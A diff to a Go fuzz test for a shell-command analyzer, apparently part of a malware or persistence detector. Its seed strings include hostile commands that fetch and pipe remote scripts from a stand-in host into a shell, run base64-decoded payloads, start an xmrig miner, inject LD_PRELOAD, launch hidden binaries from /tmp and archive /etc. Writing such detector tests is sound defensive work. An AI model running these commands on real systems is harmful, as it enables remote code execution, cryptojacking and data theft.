@@ -115,7 +115,9 @@ func FuzzParseHostsAndUdev(f *testing.F) {
 
 func FuzzAnalyzeCommand(f *testing.F) {
 	for _, s := range []string{"wget -q -O - http://x/y.sh | sh", "/tmp/.X11-unix/.work32 >/dev/null 2>&1", "cd / && run-parts --report /etc/cron.hourly",
-		`bash -c "$(curl -fsSL http://x/i.sh)"`, "echo aGk= | base64 -d | bash", "/dev/shm/.x/xmrig -o stratum+tcp://p:1 --donate-level 1"} {
+		`bash -c "$(curl -fsSL http://x/i.sh)"`, "echo aGk= | base64 -d | bash", "/dev/shm/.x/xmrig -o stratum+tcp://p:1 --donate-level 1",
+		"cd /var/tmp/.x && nohup ./run >/dev/null 2>&1 &", `env -S "LD_PRELOAD=/tmp/.l.so /bin/true"`, "screen -dmS x sh -c '/tmp/.a; `/tmp/.b`'",
+		`case "$f" in /tmp/*) rm "$f";; esac`, "tar czf /var/tmp/etc.tgz /etc 2>&1 | logger"} {
 		f.Add(s)
 	}
 	f.Fuzz(func(t *testing.T, cmd string) {
@@ -126,6 +128,15 @@ func FuzzAnalyzeCommand(f *testing.F) {
 		for _, r := range v.refs {
 			if !strings.HasPrefix(r, "/") {
 				t.Fatalf("ref %q", r)
+			}
+		}
+		targets := execTargets(cmd)
+		if len(targets) > maxRefs {
+			t.Fatalf("%d targets", len(targets))
+		}
+		for _, p := range targets {
+			if !strings.HasPrefix(p, "/") || strings.ContainsAny(p, "*?[") {
+				t.Fatalf("target %q", p)
 			}
 		}
 	})
